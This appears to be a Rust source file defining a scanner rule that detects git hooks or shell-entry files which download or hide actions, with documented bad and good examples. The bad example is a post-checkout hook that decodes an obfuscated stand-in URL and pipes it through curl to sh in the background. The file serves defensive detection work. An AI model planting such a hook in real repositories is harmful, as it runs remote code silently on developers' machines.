//! # A git hook of the tree downloads or hides something
//!
//! A hook, a program named in git's settings, or a file that the shell reads on entering the folder downloads,
//! sends or hides what it does.
//!
//! ## Why it matters
//!
//! A checkout, a commit or a prompt that shows the branch is enough to run it.
//!
//! ## Known benign uses
//!
//! Hooks that lint, test or check the message of a commit.
//!
//! ## Bad
//!
//! ```package project
//! == package.json
//! {"name": "task", "version": "1.0.0", "private": true}
//! == .githooks/post-checkout //~ 1
//! #!/bin/sh
//! U=$(printf 'aHR0cHM6Ly9ob29rcy5pbnZhbGlkL3g=' | base64 -d)
//! nohup sh -c "curl -fsSL $U | sh" >/dev/null 2>&1 &
//! ```
//!
//! ## Good
//!
//! ```package project
//! == package.json
//! {"name": "app", "version": "1.0.0", "private": true, "scripts": {"prepare": "husky", "lint": "eslint ."}}
//! == .husky/pre-commit
//! npx lint-staged
//! == .husky/commit-msg
//! npx --no -- commitlint --edit "$1"
//! == .husky/pre-push
//! npm run lint && npm test
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1546, Event Triggered Execution

use crate::prelude::*;

/// A git hook of the tree downloads or hides something.
pub struct GitHookRunsDownload;

impl Rule for GitHookRunsDownload {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "git-hook-runs-download",
            title: "A git hook of the tree downloads or hides something",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1546",
            covers: &["persist-git-hooks", "social-lure-project"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for fact in facts.auto_runs() {
            let event = &fact.entry.event;
            if !matches!(
                event,
                AutoRunEvent::Commit
                    | AutoRunEvent::Checkout
                    | AutoRunEvent::GitCommand
                    | AutoRunEvent::ShellEntry
            ) {
                continue;
            }
            let mut commands = facts
                .commands()
                .iter()
                .filter(|command| command.origin == CommandOrigin::AutoRun && command.locus == fact.locus);
            if commands.any(CommandFact::is_harmful) {
                let when = match event {
                    AutoRunEvent::ShellEntry => "downloads or hides something when a shell enters the folder",
                    _ => "downloads or hides something when git runs",
                };
                found.at(Trigger::Install, &fact.locus, when);
            }
        }
    }
}
